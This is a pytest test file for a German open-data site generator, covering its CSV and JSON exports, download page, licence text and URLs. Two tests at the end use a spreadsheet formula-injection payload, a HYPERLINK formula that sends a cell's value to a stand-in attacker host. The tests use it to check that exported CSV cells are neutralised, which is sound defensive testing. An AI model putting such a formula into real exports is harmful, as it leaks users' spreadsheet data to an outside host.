import csv
import io
import json
from pathlib import Path

import pytest

from generator.exports.tables import TABLES
from generator.pages.daten import size_de
from generator.pipeline import outputs, publication
from generator.records.kinds import MODELS
from generator.records.load import load
from generator.records.settings import OpenData, Settings
from generator.records.validate import validate
from generator.site.addresses import DATA_PAGE as PAGE
from generator.site.link import Site, link
from generator.site.publication import Publication

from .conftest import CONFIG, CONTENT, FIXTURES


def site_of(folder: Path) -> Site:
    return link(validate(load(folder)))


@pytest.fixture(scope="module", params=["valid", "seed"])
def rendered(request: pytest.FixtureRequest) -> tuple[Site, dict[str, str]]:
    site = site_of(FIXTURES / "valid" if request.param == "valid" else CONTENT)
    return site, {p.path: p.text for p in outputs(site, settings=Settings())}


def test_each_record_as_json_reads_back_into_the_same_record(rendered: tuple[Site, dict[str, str]]) -> None:
    site, pages = rendered
    count = 0
    for kind, model in MODELS.items():
        for record in site.records.of_kind(kind).values():
            data = json.loads(pages[site.ref(kind, record.id).page.removesuffix(".md") + ".json"])
            assert model.model_validate(data["record"]).model_dump() == record.model_dump()  # every field, nested
            assert data["kind"] == kind
            assert data["url"] == "http://127.0.0.1:8000/" + site.ref(kind, record.id).page.removesuffix(".md") + "/"
            count += 1
    assert count == len(site.refs) > 0


def test_a_renamed_records_data_stays_at_its_former_address() -> None:
    site = site_of(FIXTURES / "valid")
    pages = {p.path: p.text for p in outputs(site)}
    assert pages["vorlagen/bericht-2020.json"] == pages["vorlagen/vorlage-2.json"]  # former_ids: [bericht-2020]
    assert json.loads(pages["vorlagen/bericht-2020.json"])["url"].endswith("/vorlagen/vorlage-2/")


def test_csv_and_json_of_each_table_hold_the_same_rows(rendered: tuple[Site, dict[str, str]]) -> None:
    _, pages = rendered
    for table in TABLES:
        rows = json.loads(pages[f"daten/{table.stem}.json"])
        reader = csv.reader(io.StringIO(pages[f"daten/{table.stem}.csv"], newline=""))
        header, *lines = list(reader)
        assert header == [c.name for c in table.columns]
        assert len(lines) == len(rows)
        for line, row in zip(lines, rows, strict=True):
            assert list(row) == header
            as_text = [
                "" if v is None else ("true" if v is True else "false" if v is False else str(v)) for v in row.values()
            ]
            assert line == as_text, table.stem


def test_tables_give_back_the_records(rendered: tuple[Site, dict[str, str]]) -> None:
    site, pages = rendered

    def rows(stem: str) -> list[dict[str, object]]:
        return list(json.loads(pages[f"daten/{stem}.json"]))

    agreements = site.records.agreements
    assert [r["id"] for r in rows("vereinbarungen")] == list(agreements)
    for row in rows("vereinbarungen"):
        agreement = agreements[str(row["id"])]
        assert row["title"] == agreement.title and row["summary"] == agreement.summary
        assert row["outcome"] == agreement.outcome.value
        assert row["period_start"] == (
            str(agreement.period.start) if agreement.period and agreement.period.start else None
        )
    signatures = [(a.id, p) for a in agreements.values() for p in a.parties]
    assert len(rows("unterschriften")) == len(signatures)
    for row, (agreement_id, party) in zip(rows("unterschriften"), signatures, strict=True):
        assert (row["agreement"], row["organization"], row["status"]) == (
            agreement_id,
            party.organization,
            party.signature.status.value,
        )
        assert row["date"] == (str(party.signature.date) if party.signature.date else None)
        assert row["reason"] == party.signature.reason
    measurements = [
        (a.id, i.name, m.value)
        for a in agreements.values()
        for g in a.goals
        for i in g.indicators
        for m in [*filter(None, (i.baseline, i.target)), *i.actuals]
    ]
    assert [(r["agreement"], r["indicator"], float(str(r["value"]))) for r in rows("kennzahlen")] == measurements
    for stem, kind, field in (
        ("vorlagen", "papers", "reference"),
        ("sitzungen", "sessions", "name"),
        ("organisationen", "organizations", "name"),
        ("zielgruppen", "target_groups", "name"),
    ):
        records = site.records.of_kind(kind)
        assert [(r["id"], r[field]) for r in rows(stem)] == [(i, getattr(r, field)) for i, r in records.items()]


def test_unknown_values_stay_empty_in_the_seed() -> None:
    site = site_of(CONTENT)
    pages = {p.path: p.text for p in outputs(site)}
    lines = list(csv.DictReader(io.StringIO(pages["daten/unterschriften.csv"], newline="")))
    jobcenter = next(r for r in lines if r["organization"] == "jobcenter-rhein-kreis-neuss")
    assert (jobcenter["status"], jobcenter["date"]) == ("signed", "")  # the paper gives no date
    mais = next(r for r in lines if r["organization"] == "mais-nrw")
    assert (mais["status"], mais["date"]) == ("returned_unsigned", "2013-07-05")
    assert json.loads(pages["daten/vorlagen.json"])[0]["date"] is None


def test_the_daten_page_documents_every_column_and_links_every_download_with_its_size(
    rendered: tuple[Site, dict[str, str]],
) -> None:
    _, pages = rendered
    page = pages[PAGE]
    for table in TABLES:
        for name in (f"daten/{table.stem}.csv", f"daten/{table.stem}.json"):
            assert f"{name.split('/')[-1]}</a> ({size_de(len(pages[name].encode()))})" in page
        for column in table.columns:
            assert f"| `{column.name}` | " in page
    for name in ("oparl/system.json", "aenderungen.xml", "sitzungen.ics"):
        assert f'<a href="{name}" data-datei>' in page  # relative to daten.md, as a Markdown link
    assert f"sitzungen.ics</a> ({size_de(len(pages['sitzungen.ics'].encode()))})" in page


def test_the_daten_page_names_the_licence_or_says_there_is_none() -> None:
    site = site_of(FIXTURES / "valid")
    unset = {p.path: p.text for p in outputs(site, settings=Settings())}[PAGE]
    assert "keine Lizenz angegeben (Einstellung „open_data.licence“ fehlt)" in unset
    settings = Settings(open_data=OpenData(licence="Datenlizenz Deutschland – Zero – Version 2.0", licence_url=None))
    named = {p.path: p.text for p in outputs(site, settings=settings)}[PAGE]
    assert "unter der Lizenz Datenlizenz Deutschland – Zero – Version 2.0." in named
    assert "keine Lizenz" not in named


def test_sizes_in_german() -> None:
    assert [size_de(n) for n in (0, 999, 1000, 1234, 999_949, 1_234_567)] == [
        "0 Byte",
        "999 Byte",
        "1,0 kB",
        "1,2 kB",
        "999,9 kB",
        "1,2 MB",
    ]


def test_the_public_address_comes_from_mkdocs_yml_or_site_url(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("SITE_URL", raising=False)
    assert publication(CONFIG).base_url == Publication().base_url == "http://127.0.0.1:8000/"
    monkeypatch.setenv("SITE_URL", "https://transparenz.example.org/kreis")
    found = publication(CONFIG)
    assert (found.base_url, found.name) == (
        "https://transparenz.example.org/kreis/",
        "Vereinbarungen und Unterschriften",
    )


def test_the_built_site_publishes_every_download(built_valid: Path) -> None:
    daten = (built_valid / "daten" / "index.html").read_text(encoding="utf-8")
    for table in TABLES:
        assert (built_valid / "daten" / f"{table.stem}.csv").is_file()
        assert f'href="{table.stem}.csv"' in daten
    assert (built_valid / "vorlagen" / "vorlage-1.json").is_file()
    assert 'href="../vorlage-1.json"' in (built_valid / "vorlagen" / "vorlage-1" / "index.html").read_text()
    for name in ("oparl/system.json", "aenderungen.xml", "sitzungen.ics"):
        assert (built_valid / name).is_file()
        assert f'href="../{name}"' in daten


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("https://evil.example/?x="&A1,"Klick")', '\'=HYPERLINK("https://evil.example/?x="&A1,"Klick")'),
        ("+49 2131 928-0", "'+49 2131 928-0"),
        ("-Kürzung", "'-Kürzung"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rZeile", "'\rZeile"),
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        ("-1e3", "-1e3"),
        ("Ziel = 5", "Ziel = 5"),
        (-12, "-12"),
        (-0.5, "-0.5"),
    ],
)
def test_csv_cells_that_could_be_formulas_are_neutralised(value: object, cell: str) -> None:
    from generator.exports.tables import _csv_value

    assert _csv_value(value) == cell  # type: ignore[arg-type]


def test_a_formula_title_reaches_the_csv_neutralised_and_the_json_verbatim(content_copy: Path) -> None:
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Klick")'
    (content_copy / "target_groups" / "formel.yml").write_text(f"name: '{formula}'\n", encoding="utf-8")
    pages = {p.path: p.text for p in outputs(site_of(content_copy))}
    rows = list(csv.reader(io.StringIO(pages["daten/zielgruppen.csv"], newline="")))
    assert ["formel", "/zielgruppen/formel/", "'" + formula] in [row[:3] for row in rows]
    assert {"id": "formel", "name": formula}.items() <= next(
        r for r in json.loads(pages["daten/zielgruppen.json"]) if r["id"] == "formel"
    ).items()
